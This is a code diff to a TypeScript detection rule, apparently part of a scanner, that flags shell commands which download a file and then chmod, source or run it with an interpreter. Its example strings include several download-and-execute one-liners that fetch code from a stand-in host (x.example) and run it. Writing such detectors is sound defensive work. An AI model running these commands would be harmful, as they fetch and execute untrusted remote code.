@@ -1,4 +1,4 @@
-import type { Rule } from '../../rule.ts';
+import type { Rule, RuleMatch } from '../../rule.ts';
 import { expression } from '../boundary.ts';
 import { isInstallOneLiner } from '../install_one_liner.ts';
 import { DOWNLOADER, fetchesSomething, GAP, RUNS_INPUT, SHELL, WORD_START } from '../shell_syntax.ts';
@@ -25,6 +25,20 @@ function isSubstituted(bytes: Uint8Array, at: number): boolean {
     if (bytes[n] === PARENTHESIS || bytes[n] === BACKTICK) return true;
   }
   return false;
+}
+
+/** Whether the last command makes something executable, is a shell with a file, or starts what was fetched before. */
+function runsWhatItFetched({ text }: RuleMatch): boolean {
+  const [, fetched = '', last = ''] = /^([\s\S]*)(?:&&|&amp;|;|\\n)([\s\S]*)$/.exec(text) ?? [];
+  if (/^[ \t]{0,4}(?:sudo[ \t]{1,4})?(?:chmod|(?:ba|z|da)?sh)[ \t]/i.test(last)) return true;
+  const [, runner = '', file = ''] =
+    /^[ \t]{0,4}(?:sudo[ \t]{1,4})?((?:python[23]?|perl|node|ruby|php|source|\.|start|nohup|exec|cmd[ \t]\/c)(?=[ \t]))?[ \t]{0,4}([^\s;&|]{1,80})[ \t]{0,4}$/i.exec(
+      last,
+    ) ?? [];
+  // A bare name without a runner is some program.
+  if (runner === '' && !/[/\\]/.test(file)) return false;
+  const name = file.replace(/^.*[/\\]/, '');
+  return fetched.split(/[\s/\\"'=?]+/).includes(name);
 }
 
 /** Downloads that a shell runs. */
@@ -137,23 +151,29 @@ export const DOWNLOAD_RULES: readonly Rule[] = [
       DOWNLOADER,
       GAP,
       String.raw`[^\r\n|]{3,240}?(?:&&|&amp;&amp;|;|\\n)[ \t]{0,4}(?:sudo[ \t]{1,4})?`,
-      String.raw`(?:chmod[ \t]{1,4}(?:[ugoa]{0,4}\+[rwx]{0,2}x|[0-7]{0,1}7[0-7]{2})[ \t]{1,4}|(?:ba|z|da)?sh[ \t]{1,4}(?:-[a-z]{1,4}[ \t]{1,4})?[./~$A-Za-z])`,
+      String.raw`(?:(?:(?:python[23]?|perl|node|ruby|php|source|\.|start|nohup|exec|cmd[ \t]/c)[ \t]{1,4})?(?=[\w.%$~/\\-])|chmod[ \t]{1,4}(?:[ugoa]{0,4}\+[rwx]{0,2}x|[0-7]{0,1}7[0-7]{2})[ \t]{1,4}|(?:ba|z|da)?sh[ \t]{1,4}(?:-[a-z]{1,4}[ \t]{1,4})?[./~$A-Za-z])`,
       String.raw`[^\r\n;&|"'\\]{1,80}`,
     ),
     reach: { before: 2, after: 470 },
-    validate: (match) => fetchesSomething(match) && !/\|\s{0,4}(?:ba|z)?sh\b/.test(match.text),
+    validate: (match) =>
+      fetchesSomething(match) && !/\|\s{0,4}(?:ba|z)?sh\b/.test(match.text) && runsWhatItFetched(match),
     describes: 'A download that is made executable or run in the next step.',
     get finds() {
       return [
         'curl -o /tmp/x http://x.example/x && chmod +x /tmp/x && /tmp/x',
         'wget http://x.example/i.sh; sh i.sh',
         'cd /tmp; wget -q http://x.example/m -O m; chmod 777 m; ./m',
+        'curl http://x.example/a -o /tmp/a && python3 /tmp/a',
+        'wget http://x.example/a.py && python a.py',
+        'curl.exe -o %TEMP%\\a.exe http://x.example/a.exe && start %TEMP%\\a.exe',
       ];
     },
     get ignores() {
       return [
         'curl https://x.example/a.tgz && tar xzf a.tgz',
         'wget https://x.example/a.deb; dpkg -i a.deb',
+        'curl -O https://x.example/a.csv && cat a.csv',
+        'wget https://x.example/a.py && python b.py',
         'curl --help; shasum -a 256 file',
       ];
     },
